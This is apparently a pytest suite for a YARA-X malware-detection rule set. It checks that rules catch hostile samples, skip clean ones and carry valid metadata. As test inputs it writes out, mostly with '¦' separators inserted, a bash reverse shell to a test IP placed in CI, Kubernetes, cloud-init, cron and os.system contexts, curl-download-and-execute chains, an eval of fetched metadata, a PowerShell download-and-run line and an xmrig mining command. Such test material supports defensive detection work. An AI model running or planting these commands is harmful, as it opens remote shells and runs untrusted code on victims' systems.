"""Every rule that the product brings along: it finds its cases, leaves its clean cases alone, and says what it must say of itself."""

from __future__ import annotations

import tomllib
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yara_x

from analyzers.collectors.file_kind import Kind
from analyzers.collectors.sample_gate import rule_sets
from analyzers.collectors.sample_rules import RULES, SETS, SampleRules, own_rules
from analyzers.collectors.sample_types import TYPE_LEVELS, level_of

CASES = Path(__file__).resolve().parents[2] / "cases" / "malicious_samples"
FILES = sorted(RULES.glob("*/*.yar"))


def content(text: str) -> bytes:
    """A case as bytes: see the README of the cases."""
    if text.startswith("hex:"):
        return bytes.fromhex(text.removeprefix("hex:"))
    return text.replace("¦", "").replace("␀", "\0").encode()


def cases() -> list[tuple[str, str, str, bytes]]:
    """(rule, set, kind of case, content)."""
    found = []
    for path in sorted(CASES.glob("*.toml")):
        for rule, table in tomllib.loads(path.read_text(encoding="utf-8")).items():
            found += [(rule, path.stem, kind, content(text)) for kind in ("hits", "clean") for text in table[kind]]
    return found


def metas() -> dict[str, dict[str, Any]]:
    """Meta of every public rule by name."""
    found = {}
    for path in FILES:
        compiler = yara_x.Compiler(error_on_slow_pattern=True)
        compiler.add_source(path.read_text(encoding="utf-8"))
        found.update({rule.identifier: dict(rule.metadata) for rule in compiler.build()})
    return found


@pytest.mark.parametrize(("rule", "group", "kind", "data"), cases(), ids=lambda value: value if isinstance(value, str) else "")
def test_case(rule: str, group: str, kind: str, data: bytes) -> None:
    hits, _ = scanned().scan(data, (group,), "srv/a", text=group != "binary")
    assert (rule in {hit.rule for hit in hits}) == (kind == "hits")


def test_what_pages_are_found_by_reaches_the_rules_for_pages() -> None:
    missed = [rule for rule, group, kind, data in cases() if group == "page" and kind == "hits" and "page" not in sets_of(data)]
    assert missed == []
    assert sets_of(b"#!/bin/sh\necho 1 < 2\n") == ("script",)


def sets_of(data: bytes) -> tuple[str, ...]:
    return rule_sets(Kind.TEXT, "srv/a", data, len(data))


@cache
def scanned() -> SampleRules:
    return SampleRules({})


def test_code_that_a_document_shows_is_worth_a_note() -> None:
    data = content("```\nxmr¦ig -o strat¦um+tcp://pool.example.org:3333 -u wallet\n```\n")
    scores = {path: [hit.score for hit in scanned().scan(data, ("text",), path, text=True)[0]] for path in ("srv/mine.md", "srv/mine.json")}
    assert scores == {"srv/mine.md": [65], "srv/mine.json": [88]}


QUOTED = "ba¦sh -i >& /dev/¦tcp/198.51.100.7/4444 0>&1"


@pytest.mark.parametrize(
    ("path", "text", "score"),
    [
        ("srv/patterns.yaml", "categories:\n  - name: reverse_shell\n    patterns:\n      - '{}'\n", 65),
        ("srv/rules.yml", "title: Reverse shell\ndetection:\n  keywords:\n    - '{}'\n", 65),
        ("srv/ci.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: {}\n", 80),
        ("srv/pod.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - command: ['bash', '-c', '{}']\n", 80),
        ("srv/a.yaml", "services:\n  a:\n    command: bash -c '{}'\n", 80),
        ("srv/user.yml", "#cloud-config\nruncmd:\n- {}\n", 80),
        ("srv/tasks/main.yml", "- name: a\n  shell: {}\n", 80),
        ("srv/values.yaml", "args: ['{}']\n", 80),
        ("srv/test_guard.py", "BAD = ['{}']\ndef test_bad():\n    assert is_bad(BAD[0])\n", 65),
        ("srv/guard.test.js", "it.each(['{}'])('blocks %s', (c) => expect(blocked(c)).toBe(true));\n", 65),
        ("srv/a.py", "import os\nos.system('{}')\n", 80),
        ("srv/a.py", "import requests\nrequests.post(target, data={{'cmd': '{}'}})\n", 80),
        ("srv/a.py", "open('/etc/cron.d/a', 'w').write('* * * * * root {}')\n", 80),
        ("srv/a.js", "require('child_process').exec('{}')\n", 80),
        ("srv/a", "{}\n", 80),
    ],
)
def test_commands_that_are_only_quoted_are_worth_a_note(path: str, text: str, score: int) -> None:
    hits = scanned().scan(content(text.format(QUOTED)), ("script",), path, text=True)[0]
    assert [hit.score for hit in hits if hit.rule == "reverse_shell_of_a_shell"] == [score]


@pytest.mark.parametrize(
    ("text", "scores"),
    [
        ('cu¦rl -fsSLo /tmp/a https://dl.example.org/a && echo "$SUM  /tmp/a" | sha256sum -c - && chm¦od +x /tmp/a && /tmp/a', {64}),
        ("ev¦al $(cu¦rl -s http://169.254.169.254/latest/user-data)", {64}),
        ("cu¦rl -fsSLo /tmp/a https://dl.example.org/a && chm¦od +x /tmp/a && /tmp/a", {78}),
        ("cu¦rl -fsSLo /tmp/a https://dl.example.org/a && sha256sum -c s && chm¦od +x /tmp/a && /tmp/a\ncu¦rl http://203.0.113.5/b", {78}),
        ("ev¦al $(cu¦rl -s http://203.0.113.5/a)", {64, 78}),
    ],
)
def test_a_checked_download_and_the_machine_itself_are_worth_a_note(text: str, scores: set[int]) -> None:
    hits = scanned().scan(content(text + "\n"), ("script",), "srv/a", text=True)[0]
    assert {hit.score for hit in hits if hit.rule.startswith("script_fetches_and_runs")} == scores


def test_a_known_installer_is_worth_a_note() -> None:
    script = "ie¦x ((New-Object Net.WebClient).Downlo¦adString('https://{}/install.ps1'))\n"
    addresses = ("community.chocolatey.org", "a.example", "a.example/community.chocolatey.org")
    found = [scanned().scan(content(script.format(address)), ("script",), "srv/a", text=True)[0] for address in addresses]
    assert [(hit.rule, hit.score) for hits in found for hit in hits] == [
        ("script_runs_downloaded_text", 64), ("script_runs_downloaded_text", 78), ("script_runs_downloaded_text", 78),
    ]  # fmt: skip


def test_every_rule_has_cases() -> None:
    counted: dict[str, dict[str, int]] = {}
    for rule, _, kind, _ in cases():
        counted.setdefault(rule, {"hits": 0, "clean": 0})[kind] += 1
    public = {name for name, meta in metas().items() if meta}
    assert set(counted) == public
    assert {rule for rule, counts in counted.items() if min(counts.values()) < 2} == set()


def test_rules_say_type_score_and_source() -> None:
    for name, meta in metas().items():
        if meta:
            assert meta["type"] in TYPE_LEVELS, name
            assert level_of(meta["type"], meta["score"]) is not None, name
            assert meta["description"], name
            assert str(meta["reference"]).startswith("https://"), name
            if meta.get("source") == "heuristic":
                assert 62 <= meta["score"] <= 80, name


def test_rules_compile_without_a_problem() -> None:
    assert {name: compiled.problems for name, compiled in own_rules().items() if compiled.problems} == {}
    assert set(own_rules()) == set(SETS)


@pytest.mark.parametrize(
    ("path", "start", "found"),
    [
        ("srv/run", "", True),
        ("srv/run", "//usr/", True),
        ("srv/run.sh", "//usr/", True),
        ("srv/run", "# ", False),
        ("srv/a.js", "// ", False),
        ("srv/run", "#!/usr/bin/env node\n// ", False),
        ("srv/a.inc.bak", "// ", False),
    ],
)
def test_slashes_begin_a_comment_where_the_language_has_such(path: str, start: str, found: bool) -> None:
    text = start + "bin/bash -i >& " + "/dev/tcp" + "/203.0.113.9/4444 0>&1\n"
    hits, _ = scanned().scan(text.encode(), ("script",), path, text=True)
    assert bool(hits) == found
